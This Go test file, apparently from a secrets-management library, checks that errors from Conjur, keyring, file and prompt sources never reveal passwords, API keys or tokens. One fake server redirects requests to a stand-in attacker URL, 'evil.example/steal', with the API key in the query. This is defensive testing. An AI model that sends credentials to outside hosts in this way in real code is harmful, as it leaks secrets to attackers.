//go:build unix

package secretsource

import (
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/awskeep/awskeep/core/secretsource/conjurtest"
)

// TestSecretsNeverInErrors drives every error path it can reach with secrets in play and
// checks that no secret, API key, token or keyring password shows in any error text (the
// error, its %+v, and every error it wraps).
func TestSecretsNeverInErrors(t *testing.T) {
	const (
		password   = "Pa55-w0rd-never-shown"
		apiKey     = "api-key-never-shown-7f3a"
		token      = `{"protected":"TOKEN-never-shown"}`
		krPassword = "keyring-pass-never-shown"
	)
	secrets := []string{password, apiKey, token, base64.StdEncoding.EncodeToString([]byte(token)), krPassword, "never-shown"}
	ctx := t.Context()
	var errs []struct {
		name string
		err  error
	}
	add := func(name string, err error) {
		t.Helper()
		if err == nil {
			t.Errorf("%s: no error", name)
			return
		}
		errs = append(errs, struct {
			name string
			err  error
		}{name, err})
	}
	secret := func(spec string, opts Options) error {
		t.Helper()
		src, err := Parse(spec, opts)
		if err != nil {
			return err
		}
		_, err = src.Secret(ctx)
		return err
	}

	// Conjur.
	srv := conjurtest.Start(t, conjurtest.Options{APIKey: apiKey, Variables: map[string]string{"v": password}, Forbidden: []string{"f"}})
	wrongKey := conjurOpts(srv, func(e map[string]string) { e[EnvConjurAuthnAPIKey] = "x" + apiKey })
	add("conjur wrong key", secret("conjur:v", wrongKey))
	add("conjur missing", secret("conjur:missing", conjurOpts(srv, nil)))
	add("conjur forbidden", secret("conjur:f", conjurOpts(srv, nil)))
	add("conjur URL with password", secret("conjur:v", conjurOpts(srv, func(e map[string]string) {
		e[EnvConjurApplianceURL] = "https://u:" + apiKey + "@conjur.example"
	})))
	add("conjur URL that does not parse", secret("conjur:v", conjurOpts(srv, func(e map[string]string) {
		e[EnvConjurApplianceURL] = "https://u:" + apiKey + "@[bad"
	})))
	echo := func(w http.ResponseWriter, r *http.Request, code int) {
		b, _ := io.ReadAll(r.Body)
		w.WriteHeader(code)
		fmt.Fprintf(w, "echo: %s %s %s", b, r.Header.Get("Authorization"), r.URL)
	}
	giveToken := func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, token) }
	for _, code := range []int{400, 401, 403, 404, 500, 503} {
		code := code
		s := fakeConjur(t, func(w http.ResponseWriter, r *http.Request) { echo(w, r, code) }, nil)
		opts := Options{Getenv: envMap(nil), Conjur: ConjurOptions{ApplianceURL: s.URL, Account: "a", Login: "l", APIKey: apiKey}}
		add(fmt.Sprintf("conjur authenticate %d echoing the key", code), secret("conjur:v", opts))
		s = fakeConjur(t, giveToken, func(w http.ResponseWriter, r *http.Request) { echo(w, r, code) })
		opts.Conjur.ApplianceURL = s.URL
		add(fmt.Sprintf("conjur retrieve %d echoing the token", code), secret("conjur:v", opts))
	}
	s := fakeConjur(t, giveToken, func(w http.ResponseWriter, _ *http.Request) {
		_, _ = io.WriteString(w, strings.Repeat(password, maxSecret/len(password)+1))
	})
	add("conjur value too large", secret("conjur:v", Options{Getenv: envMap(nil), Conjur: ConjurOptions{ApplianceURL: s.URL, Account: "a", Login: "l", APIKey: apiKey}}))
	s = fakeConjur(t, func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "https://evil.example/steal?key="+apiKey, http.StatusTemporaryRedirect)
	}, nil)
	add("conjur redirect", secret("conjur:v", Options{Getenv: envMap(nil), Conjur: ConjurOptions{ApplianceURL: s.URL, Account: "a", Login: "l", APIKey: apiKey}}))
	tlsSrv := conjurtest.Start(t, conjurtest.Options{TLS: true, APIKey: apiKey})
	add("conjur unknown authority", secret("conjur:v", conjurOpts(tlsSrv, func(e map[string]string) { delete(e, EnvConjurCertFile) })))
	add("conjur unreachable", secret("conjur:v", Options{Getenv: envMap(nil), Conjur: ConjurOptions{ApplianceURL: "http://127.0.0.1:1", Account: "a", Login: "l", APIKey: apiKey}}))

	// Keyring, file backend.
	dir := t.TempDir()
	kr := fileKeyringOpts(dir, krPassword, nil)
	if err := Store(ctx, "okta", password, kr); err != nil {
		t.Fatal(err)
	}
	add("keyring wrong password", secret("keyring:okta", fileKeyringOpts(dir, "x"+krPassword, nil)))
	add("keyring store under another password", Store(ctx, "other", password, fileKeyringOpts(dir, "x"+krPassword, nil)))
	add("keyring no terminal", secret("keyring:okta", fileKeyringOpts(dir, "", noTTY())))
	add("keyring missing", secret("keyring:nothing", kr))
	if err := os.WriteFile(filepath.Join(dir, "damaged"), []byte("eyJ."+password), 0o600); err != nil {
		t.Fatal(err)
	}
	add("keyring damaged item", secret("keyring:damaged", kr))
	add("keyring store empty", Store(ctx, "okta", "", kr))
	add("keyring store bad name", Store(ctx, "a/b", password, kr))

	// Files.
	fdir := t.TempDir()
	write := func(name, content string, mode os.FileMode) string {
		p := filepath.Join(fdir, name)
		if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(p, mode); err != nil {
			t.Fatal(err)
		}
		return p
	}
	add("file open to others", secret("file:"+write("open", password+"\n", 0o644), Options{}))
	add("file too long", secret("file:"+write("long", strings.Repeat(password, maxSecret/len(password)+1), 0o600), Options{}))
	add("file empty first line", secret("file:"+write("blank", "\n"+password, 0o600), Options{}))
	if os.Geteuid() == 0 {
		p := write("owned", password, 0o600)
		if err := os.Chown(p, 65534, 65534); err != nil {
			t.Fatal(err)
		}
		add("file owned by another user", secret("file:"+p, Options{}))
	}

	// Prompt.
	add("prompt empty", secret("prompt", Options{Prompter: &fakePrompter{answers: []string{""}}}))
	add("prompt no terminal", secret("prompt", Options{Prompter: noTTY()}))

	// The password written where the source belongs.
	add("spec is the password", secret(password, Options{}))
	add("spec is a password with a colon", secret("Summer:"+password, Options{}))
	add("spec is a password with spaces", secret("  "+password+"  ", Options{}))

	for _, e := range errs {
		texts := []string{e.err.Error(), fmt.Sprintf("%+v", e.err), fmt.Sprintf("%v", e.err)}
		for _, w := range unwrapAll(e.err) {
			texts = append(texts, w.Error())
		}
		for _, text := range texts {
			for _, s := range secrets {
				if strings.Contains(text, s) {
					t.Errorf("%s: error shows a secret (%q): %s", e.name, s, text)
				}
			}
		}
	}
	if len(errs) < 35 {
		t.Errorf("only %d error paths checked", len(errs))
	}
}

// unwrapAll returns every error err wraps, depth first.
func unwrapAll(err error) []error {
	var out []error
	var walk func(error)
	walk = func(e error) {
		switch u := e.(type) {
		case interface{ Unwrap() error }:
			if w := u.Unwrap(); w != nil {
				out = append(out, w)
				walk(w)
			}
		case interface{ Unwrap() []error }:
			for _, w := range u.Unwrap() {
				out = append(out, w)
				walk(w)
			}
		}
	}
	walk(err)
	return out
}
